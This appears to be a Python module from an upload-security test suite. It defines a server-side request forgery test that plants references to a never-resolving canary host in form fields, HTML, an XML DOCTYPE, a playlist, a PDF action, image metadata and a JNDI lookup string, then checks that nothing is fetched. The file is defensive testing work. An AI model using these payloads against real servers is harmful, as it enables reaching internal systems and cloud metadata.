"""An upload that makes the target fetch something.

What it does
    Names a host that does not exist where a target may look for something to fetch: in form
    fields that are called ``url`` and the like, in the text of a file, in a PDF, in the metadata
    of a picture. It also names the content itself, as a ``data:`` URL.

Why it works
    A request that the server sends comes from inside: it reaches the database, the cloud's
    metadata, the printer. "Upload from URL", previews of links and parsers that follow
    references send it wherever the client says.

Expected defence
    Nothing is fetched. A target that has to has a list of where it may go.

References
    - CWE-918
    - OWASP ASVS v5.0.0-1.3.6, v5.0.0-13.2.4; WSTG-INPV-19
    - RFC 2397 (data URLs), RFC 2606, section 2 (names that never resolve)
"""

from __future__ import annotations

import base64
from dataclasses import replace

from hypothesis import strategies as st

from attacks.model import (
    GENERATED,
    Attack,
    Body,
    Demand,
    Exchange,
    Probe,
    Profile,
    SentFile,
    Severity,
)
from attacks.oracles.canaries import FETCHED, HOST
from attacks.oracles.no_egress import no_egress
from attacks.strategies.documents import pdf
from attacks.strategies.images import HIDERS
from attacks.strategies.typed import TEXTS, Tables, from_tables, honest_each
from attacks.uploads import form_for, honest_file, honest_name, part_for, post
from attacks.wire.multipart import text_part

URL = f"http://{HOST}/gauntlet.txt".encode()
DATA = b"data:text/plain;base64," + base64.b64encode(FETCHED)
FIELDS = ("url", "file_url", "remote_url", "src", "link", "callback")
TEXT = {
    "link": b"See " + URL + b" for more.\n",
    "page": b'<img src="' + URL + b'"><link rel=stylesheet href="' + URL + b'">\n',
    "doctype": b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "' + URL + b'">\n<r/>\n',
    "play-list": b"#EXTM3U\n#EXTINF:1,\n" + URL + b"\n",
    "lookup": b"${jndi:ldap://" + HOST.encode() + b"/a}\n",
}
TABLES: Tables = {
    **dict.fromkeys(TEXTS, TEXT),
    "pdf": {"opens": pdf(catalog=b"/OpenAction << /S /URI /URI (" + URL + b") >>")},
    **{e: {"hidden": next(iter(HIDERS[e].values()))(TEXT["doctype"])} for e in ("png", "jpg")},
}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each field with and without a file, then each file that names the host."""
    asked = (_field(profile, name, URL, f"field-{name.replace('_', '-')}") for name in FIELDS)
    instead = _instead(profile)
    return (*asked, instead, *from_tables(profile, TABLES, demand=Demand.EITHER))


def _field(profile: Profile, name: str, url: bytes, variant: str = GENERATED) -> Probe:
    file = honest_file(profile)
    form = form_for(profile, text_part(name.encode(), url), part_for(profile, file))
    return Probe(steps=(Exchange(request=post(profile, form), file=file),), variant=variant)


def _instead(profile: Profile) -> Probe:
    """Return a form without a file, whose field stands for one."""
    file = SentFile(
        filename=honest_name(profile, "fetched"),
        content=Body((FETCHED,)),
        media_type=profile.sample.media_type.encode(),
    )
    form = form_for(profile, text_part(b"url", DATA))
    step = Exchange(request=post(profile, form), file=file)
    return Probe(steps=(replace(step, demand=Demand.EITHER),), variant="data-in-place-of-a-file")


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw a field and the scheme that its URL has."""
    schemes = st.sampled_from((b"http", b"https", b"ftp", b"gopher", b"ldap"))
    return st.builds(
        lambda name, scheme: _field(profile, name, scheme + b"://" + HOST.encode() + b"/a"),
        st.sampled_from(FIELDS),
        schemes,
    )


ATTACK = Attack(
    id="content.remote-reference",
    title="An upload that makes the target fetch",
    severity=Severity.HIGH,
    controls=("no-egress",),
    cwe=(918,),
    asvs=("v5.0.0-1.3.6", "v5.0.0-13.2.4"),
    wstg=("WSTG-INPV-19",),
    oracles=(no_egress,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *TEXTS),
)
